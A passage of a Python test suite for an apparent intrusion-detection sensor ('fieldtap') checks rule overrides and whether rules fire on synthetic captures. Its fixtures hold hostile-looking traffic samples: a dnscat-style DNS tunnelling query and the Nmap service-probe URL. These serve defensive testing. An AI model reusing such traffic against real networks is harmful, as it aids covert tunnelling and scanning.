        self.assertEqual((r.code, r.err), (0, ""), "no errors, and no remarks on what they cost")
        self.assertTrue(r.out.endswith(f"rules: {len(ROWS)} accepted, 0 refused\n"), r.out)

    def test_replaced(self):
        """One is switched off, one told once; checked as it is started with."""
        conversation = repeat(2, lambda i: (dns("dnscat.0123456789abcdef.example"),
                                            http(url="/nice%20ports%2C/Tri%6Eity.txt%2ebak"))[i])
        capture = self.write("a.pcap", pcap(
            [(i * 0.001, f) for i, f in enumerate(conversation((10, 1, 1, 1), (10, 1, 1, 2)))]))
        self.write("own.json", json.dumps({"rules": [
            {"id": 9150100, "enabled": False},
            {"id": 9150080, "title": "Somebody runs Nmap", "severity": "warning"}]}).encode())
        remarks = [f'own.json:1:13: id: this switches off rule 9150100, "{title(9150100)}", that '
                   'comes with fieldtap (a remark)',
                   f'own.json:1:48: id: this replaces rule 9150080, "{title(9150080)}", that comes '
                   'with fieldtap (a remark)']
        r = run("--check-rules", "own.json", cwd=self.dir)
        self.assertEqual((r.code, r.out, r.err.splitlines()),
                         (0, "rules: 2 accepted, 0 refused\n", remarks))
        r = run("-q", "-r", capture, "-l", self.out, "--rules", "own.json", cwd=self.dir)
        self.assertEqual((r.code, r.err.splitlines()), (0, remarks))
        alerts = {a["alert"]["signature_id"]: a for a in of_type(self.events(), "alert")
                  if a["alert"]["signature_id"] < 9200000}
        self.assertNotIn(9150100, alerts)
        self.assertEqual(alerts[9150080]["alert"]["signature"], "Somebody runs Nmap")
        self.assertEqual(alerts[9150080]["fieldtap"]["rule"]["file"], "own.json")
        self.assertEqual(alerts[9150080]["fieldtap"]["rule"]["built_in"], False)
        self.assertIn("remark", alerts[9150080]["fieldtap"])
        self.assertTrue(alerts[9150080]["fieldtap"]["mitre"], "as the rule said before")

    def fired(self, which):
        """Ids of the rules that held, for each scene."""
        capture = self.write("a.pcap", pcap(packets(which)))
        self.assertOk(run("-q", "-r", capture, "-l", self.out))
        fired = [set() for _ in scenes(which)]
        for event in of_type(self.events(), "alert") + of_type(self.events(), "rule"):
            number = (event.get("alert") or event["rule"])["signature_id"]
            if 9150000 < number < 9160000:
                fired[scene_of(event)].add(number)
        return fired

    def test_they_fire(self):
        for i, ((rule, _), fired) in enumerate(zip(scenes(0), self.fired(0))):
            with self.subTest(rule=rule, scene=i):
                self.assertIn(rule, fired)
                self.assertLessEqual(fired, {rule} | ALSO.get(rule, set()))

    def test_near_misses(self):
        for i, ((rule, _), fired) in enumerate(zip(scenes(1), self.fired(1))):
            with self.subTest(rule=rule, scene=i):
                self.assertLessEqual(fired, ALSO.get(rule, set()))


if __name__ == "__main__":
    sensor.main()
